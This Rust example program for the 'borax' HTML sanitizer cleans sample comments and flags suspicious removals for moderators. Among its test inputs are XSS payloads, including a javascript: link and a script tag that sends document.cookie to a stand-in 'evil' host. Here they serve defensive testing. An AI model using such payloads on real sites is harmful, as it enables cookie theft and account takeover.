//! A moderation queue: clean each comment and flag the ones that lost more
//! than formatting, with the reasons, from `clean_with_report`.
//!
//! ```text
//! cargo run --example moderation_report
//! ```

use borax::{Policy, Reason, RemovalKind, Report};

/// Removals a moderator should look at: script, event handlers, hostile
/// URLs and namespace tricks, as opposed to tags that were merely not
/// allowed.
fn suspicious(report: &Report) -> Vec<String> {
    report
        .removals
        .iter()
        .filter(|r| {
            matches!(
                (r.kind, r.reason),
                (RemovalKind::Element, Reason::DroppedWithContent)
                    | (RemovalKind::Url, Reason::BadScheme)
                    | (_, Reason::Namespace)
            ) || (r.kind == RemovalKind::Attribute && r.name.starts_with("on"))
        })
        .map(|r| format!("{} {} ({}) x{}", r.kind.as_str(), r.name, r.reason, r.count))
        .collect()
}

fn main() {
    let policy = Policy::comments();
    let comments = [
        "Great post, <em>thanks</em>!",
        "<p>Long <u>underlined</u> text</p>",
        "<a href=\"javascript:alert(document.cookie)\">win a prize</a>",
        "<img src=x onerror=alert(1)><script>fetch('//evil/'+document.cookie)</script>",
    ];
    for c in comments {
        let (clean, report) = match policy.clean_with_report(c) {
            Ok(r) => r,
            Err(e) => {
                println!("REFUSED {c:?}: {e}");
                continue;
            }
        };
        let flags = suspicious(&report);
        if flags.is_empty() {
            println!("ok      {clean}");
        } else {
            println!("REVIEW  {clean}\n        {}", flags.join("; "));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn script_is_flagged_and_formatting_is_not() {
        let p = Policy::comments();
        let (_, plain) = p.clean_with_report("<p>hi <u>there</u></p>").unwrap();
        assert!(suspicious(&plain).is_empty());
        let (_, bad) = p
            .clean_with_report("<script>x</script><b onclick=y>z</b>")
            .unwrap();
        assert_eq!(suspicious(&bad).len(), 2);
    }
}
